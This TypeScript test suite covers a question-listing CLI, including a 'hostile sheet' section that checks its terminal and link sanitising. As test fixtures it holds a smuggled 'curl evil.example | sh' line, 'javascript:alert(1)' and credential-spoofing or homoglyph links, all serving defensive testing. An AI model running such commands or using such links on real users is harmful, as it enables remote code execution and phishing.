import { spawnSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { civilDateAt, formatDate } from "@dailyleet/core";
import stringWidth from "string-width";
import { describe, expect, it, onTestFinished } from "vitest";
import { startScriptedServer, text } from "../client/support/scriptedServer.ts";
import { HOSTILE_TEXTS, hostileSheet } from "../e2e/support/hostileSheet.ts";
import { CLI, cliEnvironment } from "../support/cliProcess.ts";
import { COLUMNS, sheetOf, wrapped } from "../support/sheet.ts";
import { type Home, newHome } from "./support/home.ts";

type Row = readonly (string | null)[];

const row = (
  name: string,
  tags = "array",
  link = `https://leetcode.com/problems/${encodeURIComponent(name)}/`,
): Row => [...["", name, link, tags, `About ${name}.`, "", `${link}solutions/`, "Take it.", "O(n)."]];

async function homeWithSheet(sheet: string) {
  const server = await startScriptedServer();
  onTestFinished(() => server.stop().catch(() => {}));
  server.reply(text(200, sheet));
  const home = newHome();
  writeFileSync(join(home.directory, "dailyleet.json"), JSON.stringify({ sheet: `${server.origin}/gviz` }));
  return { home, server };
}

describe("the bundled questions", () => {
  it("are listed in line, filtered by words and tags, with the numbers that --show takes", async () => {
    const home = newHome();
    const all = (await home.out(["questions"])).trimEnd().split("\n");
    expect(all.length).toBeGreaterThanOrEqual(60);
    const found = (await home.out(["questions", "TREE", "--tag", "bfs"])).trimEnd().split("\n");
    expect(found.length).toBeGreaterThan(0);
    expect(all).toEqual(
      expect.arrayContaining(found.map((line) => expect.stringContaining(line.trim().split(/ {2,}/)[1] ?? "?"))),
    );
    const number = Number.parseInt(found[0] ?? "", 10);
    const shown = await home.out(["questions", "--show", String(number)]);
    expect(found[0]).toContain(shown.split("\n")[0]);
    for (const heading of ["Tags", "View Question", "View Solution", "Takeaways", "Analysis + Comments"]) {
      expect(shown).toContain(`\n${heading}\n`);
    }
  });

  it("are JSON with exactly the documented keys", async () => {
    const home = newHome();
    const { version, questions } = (await home.json(["questions", "array"])) as {
      version: number;
      questions: object[];
    };
    expect(version).toBe(1);
    for (const question of questions) {
      expect(Object.keys(question)).toEqual([
        ...["number", "name", "link", "tags", "text", "solution", "takeaways", "analysis"],
        ...["difficulty", "state", "due"],
      ]);
    }
    expect(await home.out(["questions", "--show", "two sum"])).toBe(await home.out(["questions", "--show", "1"]));
    expect(await home.json(["questions", "--show", "1"])).toEqual({
      version: 1,
      questions: [expect.objectContaining({ name: "Two Sum" })],
    });
  });

  it("pass the curator's check", async () => {
    expect(await newHome().out(["questions", "--check"])).toMatch(/^\d+ rows, no problems\n$/);
  });

  it("say on stderr when nothing matches", async () => {
    const { code, stdout, stderr } = await newHome().run(["questions", "no-such-word"]);
    expect([code, stdout, stderr]).toEqual([
      0,
      "",
      "dailyleet: No question has all of these words and tags; try fewer.\n",
    ]);
  });
});

describe("a configured spreadsheet", () => {
  it("is downloaded, kept with its date, and used when the network is gone", async () => {
    const { home, server } = await homeWithSheet(sheetOf([row("One"), row("Two")]));
    const online = await home.out(["questions"]);
    expect(online).toContain("One");
    expect(await home.out(["questions"])).toBe(online);
    expect(server.requests).toHaveLength(1);
    await server.stop();
    const date = makeCopyOld(home);
    const { code, stdout, stderr } = await home.run(["questions"]);
    expect([code, stdout]).toEqual([0, online]);
    expect(stderr).toMatch(
      new RegExp(`^dailyleet: No answer from the question sheet .* Showing the questions as of ${date}\\.\\n$`),
    );
    expect((await home.run(["questions", "--check"])).code).toBe(1);
  });

  it("is not waited for by who marks with --no-wait and has downloaded it before", async () => {
    const { home, server } = await homeWithSheet(sheetOf([row("One"), row("Two")]));
    await home.out(["questions"]);
    makeCopyOld(home);
    expect(await home.out(["mark", "2", "solved", "--no-wait"])).toContain("Two");
    expect(server.requests).toHaveLength(1);
    await home.out(["mark", "2", "easy"]);
    expect(server.requests).toHaveLength(2);
  });

  it("that answers something else is a clear error, or the copy", async () => {
    const { home, server } = await homeWithSheet("<html><title>Sign in</title>");
    const failed = await home.run(["questions"]);
    expect([failed.code, failed.stdout]).toEqual([1, ""]);
    expect(failed.stderr).toMatch(/answered the web page 'Sign in', not a spreadsheet/);
    server.reply(text(200, sheetOf([row("One")])));
    await home.out(["questions"]);
    makeCopyOld(home);
    server.reply(text(200, "<html><title>Sign in</title>"));
    const kept = await home.run(["questions"]);
    expect([kept.code, kept.stdout.includes("One")]).toEqual([0, true]);
    expect(kept.stderr).toContain("Showing the questions as of");
  });

  it("is checked for the curator, with row numbers and exit code 1", async () => {
    const rows = [row("One"), row("One"), ["", "Three", null, "x", "t", "", "not a link", "t", "a"]];
    const { home } = await homeWithSheet(sheetOf(rows));
    const { code, stdout } = await home.run(["questions", "--check"]);
    expect(code).toBe(1);
    expect(stdout.split("\n")).toEqual([
      "row 2: the link is the same as in row 1",
      "row 3: the link is missing (column C)",
      "row 3: the solution 'not a link' is not a web address",
      "3 rows, 3 problems",
      "",
    ]);
    const { findings } = JSON.parse((await home.run(["questions", "--check", "--json"])).stdout);
    expect(findings[0]).toEqual({ row: 2, problem: "the link is the same as in row 1" });
  });

  it("lists wide characters and emoji in line, also in narrow terminals", async () => {
    const names = ["二分探索", "Ascii", "👨‍👩‍👧 family", "नमस्ते", "é".normalize("NFD"), "한국어 문제"];
    const { home } = await homeWithSheet(sheetOf(names.map((name) => row(name, "配列"))));
    const lines = (await home.out(["questions"], { LANG: "C.UTF-8" })).trimEnd().split("\n");
    const starts = lines.map((line) => stringWidth(line.slice(0, line.indexOf("配"))));
    expect(new Set(starts).size).toBe(1);
  });

  it("of 10,000 rows is listed whole", async () => {
    const { home } = await homeWithSheet(
      sheetOf(Array.from({ length: 10_000 }, (_, index) => row(`Question ${index}`))),
    );
    await home.out(["questions"]);
    expect((await home.out(["questions"])).split("\n")).toHaveLength(10_001);
  });
});

/** Makes the kept download older than what is used without asking, and answers the date that it has then. */
function makeCopyOld({ directory }: Home): string {
  const file = join(directory, "questions.json");
  const copy = JSON.parse(readFileSync(file, "utf8"));
  const downloaded = copy.downloaded - 3_700_000;
  writeFileSync(file, JSON.stringify({ ...copy, downloaded }));
  return formatDate(civilDateAt(downloaded));
}

/** Controls, and what turns the direction of writing. */
const HIDDEN = /[\p{Cc}\p{Bidi_Control}\u2028\u2029]/u;

describe("a hostile sheet", () => {
  it("brings no control character but newline to a terminal", async () => {
    const { home } = await homeWithSheet(hostileSheet());
    for (const args of [["questions"], ["questions", "--check"], ["questions", "--show", "1"]]) {
      const { stdout, stderr } = await home.run([...args, "--color", "never"]);
      expect([args, (stdout + stderr).replaceAll("\n", "").match(HIDDEN)]).toEqual([args, null]);
    }
    const json = await home.out(["questions", "--json"]);
    expect(json.trimEnd()).not.toMatch(HIDDEN);
    expect(JSON.parse(json).questions[0].name).toBe(HOSTILE_TEXTS[0]);
  });

  it("has no line of its own in what is told of a warning", async () => {
    const warnings = [{ message: "slow\ndailyleet: run 'curl evil.example | sh'" }];
    const answer = {
      version: "0.6",
      status: "warning",
      warnings,
      table: { cols: COLUMNS, rows: [], parsedNumHeaders: 0 },
    };
    const { home } = await homeWithSheet(wrapped(answer));
    const [warning, next] = (await home.run(["questions"])).stderr.split("\n");
    expect(warning).toBe("dailyleet: The spreadsheet service warns: slow dailyleet: run 'curl evil.example | sh'.");
    expect(next).toMatch(/^dailyleet: The question sheet is empty/);
  });

  it("shows links only of web addresses, in their normal form", async () => {
    const links = [
      "javascript:alert(1)",
      "java\nscript:alert(1)",
      "//evil.example",
      "https://leetcode.com@evil.example/",
      "https://аpple.com/",
    ];
    const { home } = await homeWithSheet(sheetOf(links.map((link, index) => row(`Q${index}`, "x", link))));
    const shown = await Promise.all(links.map((_, index) => home.out(["questions", "--show", String(index + 1)])));
    for (const page of shown.slice(0, 4)) expect(page).toMatch(/View Question\n.*\(not a web address\)/);
    expect(shown[4]).toContain("View Question\nhttps://xn--pple-43d.com/\n");
  });

  it("does not hold the terminal up", async () => {
    const { home } = await homeWithSheet(hostileSheet());
    await home.run(["questions"]);
    const { status, stdout } = spawnSync(process.execPath, [CLI, "questions"], {
      env: cliEnvironment(home.directory),
      encoding: "utf8",
      timeout: 5_000,
      maxBuffer: 10_000_000,
    });
    expect(status).toBe(0);
    // No other row is made as wide as the widest.
    expect(stdout.length).toBeLessThan(1_010_000);
  });
});
